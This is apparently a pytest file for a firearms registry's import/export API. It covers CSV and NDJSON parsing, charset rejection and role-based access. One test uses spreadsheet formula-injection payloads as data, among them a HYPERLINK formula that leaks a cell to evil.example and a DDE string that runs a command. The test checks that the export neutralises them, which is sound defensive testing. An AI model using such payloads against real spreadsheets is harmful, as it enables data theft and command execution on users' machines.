from __future__ import annotations

import csv
import io
import json

from litestar.testing import AsyncTestClient

from firearms import db
from tests.conftest import TokenFactory

PROBLEM = "tag:firearms-registry,2026:problems/"
CSV_HEADER = "kind,firearm_type,manufacturer,country_of_manufacture,serial,model,marking_stamped\n"


async def counts(conn: db.Conn) -> tuple[int, int, int, int]:
    row = await conn.fetchrow(
        "SELECT (SELECT count(*) FROM item), (SELECT count(*) FROM marking), (SELECT count(*) FROM item_import),"
        " (SELECT count(*) FROM journal_entry WHERE action LIKE 'item%')"
    )
    assert row is not None
    return (row[0], row[1], row[2], row[3])


async def test_import_endpoint_takes_csv_body_and_lists_rejections(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    headers = await auth("records-officer")
    body = CSV_HEADER + "firearm,pistol,Glock GmbH,AT,API-1,17,GLOCK API-1\nfirearm,pistol,Glock GmbH,AT,,17,X\n"
    response = await client.post(
        "/api/v1/imports",
        content=body.encode(),
        params={"file_name": "dealer.csv"},
        headers={**headers, "Content-Type": "text/csv"},
    )
    assert response.status_code == 201, response.text
    result = response.json()
    assert (result["inserted"], result["rejected"], result["file_name"]) == (1, 1, "dealer.csv")
    assert result["rejections"] == [{"line": 3, "reason": "invalid-serial", "serial": None, "item_id": None}]
    assert await counts(conn) == (1, 1, 1, 1)


async def test_import_endpoint_refuses_entirely_invalid_body_and_stores_nothing(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    headers = {**(await auth("records-officer")), "Content-Type": "application/x-ndjson"}
    lines = [json.dumps({"kind": "firearm", "serial": "X"}), "nope"]
    response = await client.post("/api/v1/imports", content="\n".join(lines).encode(), headers=headers)
    assert response.status_code == 422
    problem = response.json()
    assert problem["type"] == PROBLEM + "import-rejected"
    assert [r["reason"] for r in problem["rejections"]] == ["invalid-text", "malformed-line"]
    assert await counts(conn) == (0, 0, 0, 0)


async def test_import_endpoint_refuses_unknown_media_type_and_bad_header(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    headers = await auth("records-officer")
    wrong = await client.post("/api/v1/imports", content=b"a,b\n", headers={**headers, "Content-Type": "text/plain"})
    assert wrong.status_code == 422
    assert wrong.json()["type"] == PROBLEM + "import-invalid-file"
    header = await client.post(
        "/api/v1/imports", content=b"a,b\n1,2\n", headers={**headers, "Content-Type": "text/csv"}
    )
    assert header.status_code == 422
    assert header.json()["type"] == PROBLEM + "import-invalid-file"
    assert header.json()["missing_columns"] == ["kind", "manufacturer", "country_of_manufacture", "serial"]
    assert await counts(conn) == (0, 0, 0, 0)


async def test_export_streams_csv_and_ndjson_with_filters(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
) -> None:
    headers = await auth("records-officer")
    body = CSV_HEADER + "".join(
        f"firearm,rifle,Steyr,AT,EX-{n},{'A' if n % 2 else 'B'},STEYR EX-{n}\n" for n in range(4)
    )
    imported = await client.post(
        "/api/v1/imports", content=body.encode(), headers={**headers, "Content-Type": "text/csv"}
    )
    assert imported.status_code == 201
    auditor = await auth("auditor")
    response = await client.get("/api/v1/items/export", params={"format": "csv", "model": "B"}, headers=auditor)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["serial"] for row in rows] == ["EX-0", "EX-2"]
    assert rows[0]["marking_stamped"] == "STEYR EX-0"
    assert rows[0]["status"] == "active"
    ndjson = await client.get("/api/v1/items/export", params={"format": "ndjson"}, headers=auditor)
    records = [json.loads(line) for line in ndjson.text.splitlines()]
    assert [record["serial"] for record in records] == ["EX-0", "EX-1", "EX-2", "EX-3"]
    reimported = await client.post(
        "/api/v1/imports", content=ndjson.content, headers={**headers, "Content-Type": "application/x-ndjson"}
    )
    assert reimported.status_code == 201
    assert (reimported.json()["inserted"], reimported.json()["already_registered"]) == (0, 4)


async def test_import_endpoint_refuses_a_body_declared_in_another_charset_than_utf8(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    """A body sent as Latin-1 is not read as UTF-8 as if nothing had been said (its accented rows rejected)."""
    headers = await auth("records-officer")
    body = (
        CSV_HEADER
        + "firearm,pistol,Glock GmbH,AT,CS-1,17,GLOCK CS-1\n"
        + "firearm,pistol,Fabrique Nationale,BE,CS-2,Herstal \xe9,FN CS-2\n"
    )
    latin = await client.post(
        "/api/v1/imports",
        content=body.encode("latin-1"),
        headers={**headers, "Content-Type": "text/csv; charset=ISO-8859-1"},
    )
    assert latin.status_code == 422, latin.text
    assert latin.json()["type"] == PROBLEM + "import-invalid-file"
    assert await counts(conn) == (0, 0, 0, 0)
    utf8 = await client.post(
        "/api/v1/imports", content=body.encode(), headers={**headers, "Content-Type": 'text/csv; charset="UTF-8"'}
    )
    assert utf8.status_code == 201, utf8.text
    assert utf8.json()["inserted"] == 2


async def test_csv_export_neutralises_spreadsheet_formulas_and_imports_back_unchanged(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    headers = await auth("records-officer")
    rows = [
        ("-F1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)"),
        ("F2", "+cmd|' /C calc'!A0", "'=stays quoted"),
        ("F3", "'plain", "MAUSER F3"),
    ]
    lines = [
        json.dumps(
            {
                "kind": "firearm",
                "firearm_type": "rifle",
                "manufacturer": "Mauser",
                "country_of_manufacture": "DE",
                "serial": serial,
                "model": model,
                "marking_stamped": stamped,
            }
        )
        for serial, model, stamped in rows
    ]
    imported = await client.post(
        "/api/v1/imports",
        content=("\n".join(lines) + "\n").encode(),
        headers={**headers, "Content-Type": "application/x-ndjson"},
    )
    assert imported.status_code == 201, imported.text
    assert imported.json()["inserted"] == 3
    stored = await conn.fetch("SELECT serial, model FROM item ORDER BY item_id")
    assert [(r["serial"], r["model"]) for r in stored] == [(serial, model) for serial, model, _ in rows]

    export = await client.get("/api/v1/items/export", params={"format": "csv"}, headers=headers)
    assert export.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    # A spreadsheet evaluates a cell that begins with = + - @ as a formula: none may reach it as one.
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}]
    exported = list(csv.DictReader(io.StringIO(export.text)))
    assert exported[0]["model"] == "'" + rows[0][1]
    assert exported[1]["marking_stamped"] == "''=stays quoted"
    assert exported[2]["model"] == "'plain"

    # and the export imports into another registry as it is (here: the same identities, none rejected)
    again = await client.post(
        "/api/v1/imports", content=export.content, headers={**headers, "Content-Type": "text/csv"}
    )
    assert again.status_code == 201, again.text
    assert (again.json()["already_registered"], again.json()["rejected"]) == (3, 0)


async def test_import_of_a_csv_whose_header_is_not_utf8_is_refused_as_a_problem(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    # A Latin-1 file from a spreadsheet: its accented column name could not be put in the problem (500).
    headers = {**(await auth("records-officer")), "Content-Type": "text/csv"}
    body = "kind,manufacturer,country_of_manufacture,serial,Modèle\nfirearm,Steyr,AT,L1-1,SSG\n".encode("latin-1")
    response = await client.post("/api/v1/imports", content=body, headers=headers)
    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert problem["type"] == PROBLEM + "import-invalid-file"
    assert problem["unknown_columns"] == ["Mod\ufffdle"]
    assert await counts(conn) == (0, 0, 0, 0)
